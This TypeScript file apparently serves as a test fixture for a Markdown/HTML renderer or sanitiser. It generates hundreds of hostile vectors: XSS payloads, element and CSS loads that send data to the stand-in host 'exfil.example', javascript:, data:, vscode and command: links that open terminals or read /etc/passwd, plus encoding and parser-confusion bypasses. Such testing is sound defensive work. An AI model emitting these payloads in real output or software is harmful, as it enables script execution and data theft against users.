/** What a model may be talked into writing: to fetch, to run, to navigate, to pass for something else. */
export interface HostileVector {
  /** Its place in the list, which stands in every address that it would fetch and in every call that it would make. */
  number: number;
  /** What it is made of: elements of HTML, other ways to write them, Markdown around them, links, or what fits nowhere. */
  group: string;
  text: string;
}

/** Nothing listens there; requests are caught on their way. */
export const exfilHost = 'exfil.example';

/**
 * In a template `{out}` is an address of its own below the host, `{run}` a call of `hit` with its number, `{page64}` a page in
 * base64 that calls it, and `{ref}` a label that no other vector has.
 */
function fill(template: string, number: number): string {
  const run = `hit(${number})`;
  return template
    .replaceAll('{out}', `https://${exfilHost}/${number}`)
    .replaceAll('{run}', run)
    .replaceAll('{page64}', btoa(`<script>parent.${run}</script>`))
    .replaceAll('{ref}', `ref${number}`);
}

/** Elements that fetch, run, navigate or hide others, as HTML. */
const elements = [
  '<img src="{out}">',
  '<img src=x onerror="{run}">',
  '<img srcset="{out} 1x, {out}2 2x">',
  '<img src="{out}" loading="eager" referrerpolicy="unsafe-url">',
  '<image src="{out}">',
  '<picture><source srcset="{out}"><img></picture>',
  '<video src="{out}" autoplay></video>',
  '<video poster="{out}"></video>',
  '<video><source src="{out}" onerror="{run}"></video>',
  '<audio src="{out}" autoplay></audio>',
  '<source src="{out}">',
  '<video><track default src="{out}"></video>',
  '<iframe src="{out}"></iframe>',
  '<iframe src="javascript:parent.{run}"></iframe>',
  '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
  '<iframe srcdoc="&lt;img src={out}&gt;"></iframe>',
  '<frameset><frame src="{out}"></frameset>',
  '<object data="{out}"></object>',
  '<object data="data:text/html;base64,{page64}"></object>',
  '<embed src="{out}">',
  '<applet code="{out}">',
  '<portal src="{out}">',
  '<fencedframe src="{out}">',
  '<link rel="stylesheet" href="{out}">',
  '<link rel="preload" as="image" href="{out}">',
  '<link rel="modulepreload" href="{out}">',
  '<link rel="prefetch" href="{out}">',
  '<link rel="manifest" href="{out}">',
  '<link rel="icon" href="{out}">',
  '<link rel="dns-prefetch" href="//exfil.example">',
  '<link rel="preconnect" href="//exfil.example">',
  '<script type="speculationrules">{"prefetch":[{"urls":["{out}"]}]}</script>',
  '<style>@import "{out}";</style>',
  '<style>body { background: url({out}) }</style>',
  '<style>@font-face { font-family: f; src: url({out}) } * { font-family: f }</style>',
  '<style>textarea[value^="a"] { background: image-set("{out}" 1x) }</style>',
  '<div style="background: url({out})">x</div>',
  '<div style="position:fixed;inset:0;background:#fff;z-index:9">x</div>',
  '<ul style="list-style-image: url({out})"><li>x</ul>',
  '<table background="{out}"><tr><td>x</td></tr></table>',
  '<body background="{out}" onload="{run}">',
  '<svg><image href="{out}"/></svg>',
  '<svg><image xlink:href="{out}"/></svg>',
  '<svg><feImage href="{out}"/></svg>',
  '<svg onload="{run}">',
  '<svg><script>{run}</script></svg>',
  '<svg><script href="{out}"/></svg>',
  '<svg><use href="{out}#a"/></svg>',
  '<svg><style>@import "{out}";</style></svg>',
  '<svg><animate onbegin="{run}" attributeName="x" dur="1s">',
  '<svg><set attributeName="href" to="javascript:{run}"/></svg>',
  '<svg><a href="javascript:{run}"><text y="20">x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror="{run}"></foreignObject></svg>',
  '<math><mtext><img src="{out}"></mtext></math>',
  '<math href="javascript:{run}">x</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
  '<script>{run}</script>',
  '<script src="{out}"></script>',
  '<script type="module">import "{out}"</script>',
  '<scr<script>ipt>{run}</script>',
  '<noscript><img src="{out}"></noscript>',
  '<noscript><p title="</noscript><img src=x onerror={run}>">',
  '<template><img src="{out}"></template>',
  '<template shadowrootmode="open"><img src="{out}"></template>',
  '<form action="{out}"><button>x</button></form>',
  '<form><button formaction="{out}">x</button></form>',
  '<form id="getElementById"><input name="body"></form>',
  '<isindex type="image" src="{out}">',
  '<input type="image" src="{out}">',
  '<input autofocus onfocus="{run}">',
  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle="{run}">x</div>',
  '<details open ontoggle="{run}"><summary>x</summary></details>',
  '<marquee onstart="{run}">x</marquee>',
  '<x onanimationstart="{run}" style="animation: blink 1s">x</x>',
  '<x/onpointerenter="{run}">hover</x>',
  '<x contenteditable autofocus tabindex=1 onfocus="{run}">x</x>',
  '<base href="{out}/"><img src="x">',
  '<base target="_top"><a href="{out}">x</a>',
  '<meta http-equiv="refresh" content="0;url={out}">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<a href="javascript:{run}">x</a>',
  '<a href="{out}" ping="{out}">x</a>',
  '<a href="{out}" target="_blank">x</a>',
  '<a href="command:workbench.action.terminal.new">x</a>',
  '<area href="javascript:{run}">',
  '<a id="panel" name="posts">clobber</a>',
  '<p title="</title><img src=x onerror={run}>">x',
  '<textarea></textarea><img src="{out}">',
  '<title><img src="{out}"></title><img src=x onerror="{run}">',
  '<plaintext><img src="{out}">',
];

/** The ones among them that are tried in every construct and every encoding: each kind of harm, by its surest way. */
const sinks = [
  '<img src="{out}">',
  '<img src=x onerror="{run}">',
  '<svg onload="{run}">',
  '<script>{run}</script>',
  '<iframe src="{out}"></iframe>',
  '<a href="javascript:{run}">x</a>',
  '<div style="background: url({out})">x</div>',
  '![x]({out})',
  '[x](javascript:{run})',
  '[x](command:workbench.action.terminal.new)',
];

/** Everything of Markdown that has text in it; `{x}` is the place. Of several lines, none of a sink. */
const constructs = [
  '{x}',
  'Words before {x} and after.',
  '# {x}',
  '###### {x} ######',
  '{x}\n===',
  '- {x}',
  '* a\n\n  {x}',
  '7. {x}',
  '- [x] {x}',
  '> {x}',
  '> - > {x}',
  '| {x} |\n|---|\n| b |',
  '| a | b |\n|:--|--:|\n| {x} | c |',
  '**{x}**',
  '*{x}*',
  '~~{x}~~',
  '***a {x} b***',
  '[{x}](https://example.com/)',
  '![{x}](https://example.com/a.png)',
  '[a](https://example.com/ "{x}")',
  '[a](https://example.com/ (b) {x})',
  '[a][{ref}]\n\n[{ref}]: https://example.com/ "{x}"',
  '[{x}]: https://example.com/\n\n[{x}]',
  '[^1]: {x}\n\nA note.[^1]',
  '`{x}`',
  '`` `{x}` ``',
  '```\n{x}\n```',
  '```{x}\ncode\n```',
  '~~~html {x}\n{x}\n~~~',
  '```html\n{x}',
  '    {x}',
  '\\({x}\\)',
  '$$\n{x}\n$$',
  '<div>\n{x}\n</div>',
  '<!-- -->{x}<!-- -->',
  '<https://example.com/{x}>',
  'https://example.com/{x}',
  'a<br>{x}<br/>b',
  '{x}  \n{x}\\\n{x}',
  '{"a": "{x}"}',
];

/** Other ways to write a text that some reader, sooner or later, may take for the text itself. */
const encodings: readonly ((text: string) => string)[] = [
  text => text.toUpperCase().replace(/HIT\(/g, 'hit('),
  text => text.replace(/[<>]/g, sign => `&#${sign.charCodeAt(0)};`),
  text => text.replace(/[<>]/g, sign => `&#x${sign.charCodeAt(0).toString(16)};`),
  text => text.replace(/[<>]/g, sign => `&#0000${sign.charCodeAt(0)}`),
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  text => text.replaceAll('<', '\\<').replaceAll('>', '\\>'),
  text => encodeURIComponent(text),
  text => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  text => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  text => text.replace(/<(\w)/g, '<\u200b$1'),
  text => text.replace(/<(\w+)/g, '<$1\0'),
  text => text.replace(/ /g, '/').replace(/<(\w+)/g, '<$1\n'),
  text => text.replace(/ /g, '\f').replace(/"/g, "'"),
  text => text.replaceAll('"', '`'),
  text => text.replace(/javascript|command/g, word => `${word.slice(0, 4)}\t${word.slice(4)}`),
  text => text.replace(/javascript|command/g, word => `&#${word.charCodeAt(0)};${word.slice(1)}`),
  text => text.replace(/(javascript|command):/g, '$1&colon;'),
  text => text.replace(/>/g, ''),
  text => `\ufeff\u202e${text}`,
];

/** Where a link may lead. */
const targets = [
  'javascript:{run}',
  'JaVaScRiPt:{run}',
  'java&#115;cript:{run}',
  'javascript&colon;{run}',
  'java&Tab;script:{run}',
  'java&NewLine;script:{run}',
  'java\tscript:{run}',
  '\u0001javascript:{run}',
  '&#1;javascript:{run}',
  '%6aavascript:{run}',
  'javascript://example.com/%0a{run}',
  'javascript:void%200;{run}//https://example.com',
  'vbscript:{run}',
  'data:text/html,<script>parent.{run}</script>',
  'data:text/html;base64,{page64}',
  'data:image/svg+xml,<svg%20xmlns="http://www.w3.org/2000/svg"%20onload="{run}"/>',
  'blob:https://exfil.example/0',
  'filesystem:https://exfil.example/0',
  'view-source:{out}',
  'command:workbench.action.terminal.new',
  'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D',
  'COMMAND:workbench.action.files.newUntitledFile',
  'vscode:extension/evil',
  'vscode-insiders://evil.evil/{run}',
  'vscode-file://vscode-app/etc/passwd',
  'vscode-resource:/etc/passwd',
  'file:///etc/passwd',
  'mailto:a@example.com?body=secret',
  'tel:+123',
  'ms-msdt:/id',
  'intent://exfil.example#Intent;end',
  'http://exfil.example/0',
  'ws://exfil.example/0',
  'ftp://exfil.example/0',
  '//exfil.example/0',
  '\\\\exfil.example\\0',
  'https:exfil.example',
  'https:/exfil.example/0',
  'https:\\\\exfil.example\\0',
  'https&colon;//exfil.example/0',
  'https://user:secret@exfil.example/',
  'https://example.com@exfil.example/',
  'https://example.com\\@exfil.example/',
  'https://example.com%2f@exfil.example/',
  '{out}?q=secret',
  '{out}" onmouseover="{run}',
  "{out}'onclick='{run}",
  '#panel',
  '?secret',
  'x',
];

/** How Markdown writes a link or a picture; `{x}` is where it leads. */
const links = [
  '[x]({x})',
  '[x](<{x}>)',
  '[x]({x} "title")',
  '[x][{ref}]\n\n[{ref}]: {x}',
  '[{ref}]\n\n[{ref}]: <{x}>',
  '<{x}>',
  'See {x} there',
  '![x]({x})',
  "![{ref}][]\n\n[{ref}]: {x} 'title'",
  '[![x]({x})]({x})',
  '| a |\n|---|\n| [x]({x}) |',
];

/** What fits nowhere else: structure that breaks, attributes that are broken out of, depth. */
const oddities = [
  '[x]({out} \'" onclick="{run}\')',
  '[" onclick="{run}]({out})',
  '![" onerror="{run}](x)',
  '![<img src="{out}">](x)',
  '```"><img src=x onerror={run}>\ncode\n```',
  '```js\n</code></pre><img src=x onerror="{run}">\n```',
  '```html\n<img src="{out}" onerror="{run}"><script>{run}</script>\n```',
  '``` html" onload="{run}\nx\n```',
  '<!--><img src=x onerror="{run}">-->',
  '<!-- --!><img src=x onerror="{run}">-->',
  '<![CDATA[<img src=x onerror="{run}">]]>',
  '<?xml-stylesheet href="{out}"?>',
  '<!doctype html><img src="{out}">',
  '<br onload="{run}"><br src={out}>',
  '<br\n/><img src={out}>',
  '<a href="x`">`<img src=x onerror={run}>`</a>',
  '*<img src=x onerror="{run}* ">',
  '[a](<b)c<img src={out}>d)',
  '| `|<img src="{out}">|` |\n|--|\n| a |',
  '<p\n\n<img src=x onerror={run}>\n\n>',
  '\r<img src="{out}">\r\n<img src=x onerror="{run}">',
  '<img\u0000 src="{out}">\ud800<img src="{out}">',
  '{"__proto__": {"innerHTML": "<img src={out}>"}, "constructor": "{run}"}',
  `${'>'.repeat(3000)} <img src="{out}">`,
  `${'- '.repeat(500)}<img src="{out}">`,
  `${'['.repeat(500)}<img src="{out}">${'](x)'.repeat(500)}`,
  `${'*'.repeat(2000)}<img src="{out}">`,
];

/** Writes a vector, given its number. */
type Write = (number: number) => string;

const written =
  (template: string): Write =>
  number =>
    fill(template, number);

const groups: Readonly<Record<string, readonly Write[]>> = {
  elements: elements.map(written),
  encodings: sinks.flatMap(sink =>
    encodings.map(
      (encode): Write =>
        number =>
          encode(fill(sink, number)),
    ),
  ),
  constructs: constructs.flatMap(construct => sinks.map(sink => written(construct.replaceAll('{x}', sink)))),
  links: links.flatMap(link => targets.map(target => written(link.replaceAll('{x}', target)))),
  oddities: oddities.map(written),
};

/** All of them; what comes out the same twice is in it once. */
export const hostileVectors: readonly HostileVector[] = makeVectors();

function makeVectors(): HostileVector[] {
  const vectors: HostileVector[] = [];
  const known = new Set<string>();
  for (const [group, writes] of Object.entries(groups)) {
    for (const write of writes) {
      if (known.has(write(0))) continue;
      known.add(write(0));
      const number = vectors.length;
      vectors.push({ number, group, text: write(number) });
    }
  }
  return vectors;
}
